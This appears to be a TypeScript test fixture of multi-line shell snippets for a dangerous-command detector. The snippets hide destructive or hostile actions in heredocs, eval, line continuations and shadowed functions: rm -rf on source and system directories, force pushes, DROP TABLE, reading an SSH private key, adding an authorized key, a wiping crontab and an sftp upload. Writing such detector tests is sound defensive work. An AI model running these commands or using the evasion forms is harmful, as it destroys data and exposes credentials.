/** Danger in several lines. */
import { blocksOf } from "./commands-of.ts";

export const written = blocksOf(String.raw`
bash <<'EOF'
rm -rf src
EOF
---
sh -s <<EOF
rm -rf src
EOF
---
cat <<'EOF' | bash
rm -rf src
EOF
---
cat > /tmp/x.sh <<'EOF'
rm -rf /work/app/src
EOF
bash /tmp/x.sh
---
python3 <<'EOF'
import shutil
shutil.rmtree("src")
EOF
---
python3 - <<'EOF'
import subprocess
subprocess.check_call("git push --force", shell=True)
EOF
---
node <<'EOF'
import("fs").then(fs => fs.rmSync("src", { recursive: true }));
EOF
---
cat > z.py <<'EOF'
import os
os.execvp("git", ["git", "push", "-f", "origin", "main"])
EOF
python3 z.py
---
cat > z.ts <<'EOF'
new Deno.Command("rm", { args: ["-rf", "/etc"] }).spawn()
EOF
deno run -A z.ts
---
cat > package.json <<'EOF'
{ "scripts": { "leak": "cat ~/.ssh/id_rsa" } }
EOF
node --watch --run leak
---
perl <<'EOF'
system "rm", "-rf", "src";
EOF
---
cat > /tmp/evil.py <<'EOF'
import os
os.system("git push --force")
EOF
python3 /tmp/evil.py
---
cat <<EOF
$(rm -rf src)
EOF
---
psql <<'SQL'
DROP TABLE users;
SQL
---
cat > Makefile <<'EOF'
all:
	rm -rf src
EOF
make
---
git commit -m "$(cat <<EOF
$(rm -rf src)
EOF
)"
---
ssh ada@example.com <<'EOF'
rm -rf /srv
EOF
---
ed -s /home/user/.bashrc <<'EOF'
a
evil
.
w
EOF
---
sftp ada@example.com <<'EOF'
put app.db
EOF
---
rm \
  -rf \
  src
---
r\
m -rf src
---
echo start
cd /
rm -rf work
---
function ls() {
  rm -rf src
}
ls
---
gdb <<'EOF'
shell rm -rf src
EOF
---
crontab <<'EOF'
* * * * * rm -rf /work/app
EOF
---
awk -f - <<'EOF'
BEGIN { system("rm -rf src") }
EOF
---
tee ~/.ssh/authorized_keys <<'EOF'
ssh-ed25519 AAAA evil
EOF
---
X=$(cat <<'EOF'
rm -rf src
EOF
)
eval "$X"
---
mapfile -t lines <<'EOF'
rm -rf src
EOF
${"$"}{lines[0]}
---
read -r line <<'EOF'
rm -rf src
EOF
$line
`);
